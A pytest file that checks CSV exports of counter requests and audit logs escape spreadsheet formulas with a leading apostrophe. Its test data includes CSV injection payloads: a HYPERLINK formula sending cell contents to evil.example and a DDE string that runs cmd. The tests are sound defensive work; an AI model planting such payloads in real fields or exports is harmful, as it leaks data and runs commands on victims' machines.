"""CSV exports opened in a spreadsheet: text typed at a counter or at the
command line that starts like a formula (= + - @, a tab or a carriage
return) comes out with a leading apostrophe, so the spreadsheet shows it
instead of running it; parsed back, every other cell is unchanged."""

from __future__ import annotations

import csv
import io
import os
import subprocess
import sys

from fallback.ops import open_ops
from fallback.staff import users

FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', "@SUM(1+1)*cmd|' /C calc'!A0", "+81-90-1234-5678", "-2+3",
            "\t=1+1", "\r=1+1"]
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def parse(text: str) -> list[list[str]]:
    return list(csv.reader(io.StringIO(text.lstrip("\ufeff"), newline="")))


def assert_no_live_formula(rows: list[list[str]], typed: list[str]) -> None:
    cells = [cell for row in rows for cell in row]
    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
    for text in typed:
        assert "'" + text in cells, text


def test_deferred_requests_csv_keeps_formulas_as_text(login, downtime):
    clerk = login("clerk1")
    for index, text in enumerate(FORMULAS):
        answer = clerk.post("/counter/deferred", {"kind": "tenkyo", "name": f"山田　{index}", "contact": "+81-3-0000-0000",
                                                  "delivery": "phone", "consent": "1", "note": text})
        assert answer.status_code == 200, text
    rows = parse(login("boss").get("/counter/deferred.csv").get_data(as_text=True))
    assert rows[0][0] == "受付番号" and len(rows) == len(FORMULAS) + 1
    typed = [text.strip() for text in FORMULAS]  # the form strips what it stores
    assert_no_live_formula(rows, [t for t in typed if t.startswith(FORMULA_STARTS)] + ["+81-3-0000-0000"])
    assert [row[6] for row in rows[1:]] == [f"山田　{index}" for index in range(len(FORMULAS))]  # other cells as typed


def actions_by(appliance, actors):
    """Each of `actors` disables an account, as `sonae user disable --actor
    ACTOR` records it: the operator's name is text typed at the command line
    (a name typed at the login page is never kept: see test_login)."""
    conn = open_ops(appliance.config["SONAE"])
    try:
        for actor in actors:
            users.set_disabled(conn, "clerk2", True, actor=actor)
    finally:
        conn.close()


def test_audit_csv_keeps_typed_actors_as_text(appliance, login):
    actors = ['=HYPERLINK("http://evil.example","x")', "@SUM(1+1)", "+cmd", "-1", "\t=2+2"]
    actions_by(appliance, actors)
    text = login("aud").get("/audit/export.csv?action=user.disable").get_data(as_text=True)
    rows = parse(text)
    assert rows[0] == ["id", "at", "actor", "action", "target", "detail", "drill", "hash"]
    assert sorted(row[2] for row in rows[1:]) == sorted("'" + name for name in actors)
    assert_no_live_formula(rows, actors)


def test_the_audit_export_command_keeps_formulas_as_text(appliance):
    actions_by(appliance, ["=1+1", "@A1"])
    out = subprocess.run([sys.executable, "-m", "fallback.cli", "audit", "export", "--action", "user.disable", "--format", "csv"],
                         capture_output=True, text=True, env=dict(os.environ), check=True).stdout
    rows = parse(out)
    assert [row[2] for row in rows[1:]] == ["'=1+1", "'@A1"]
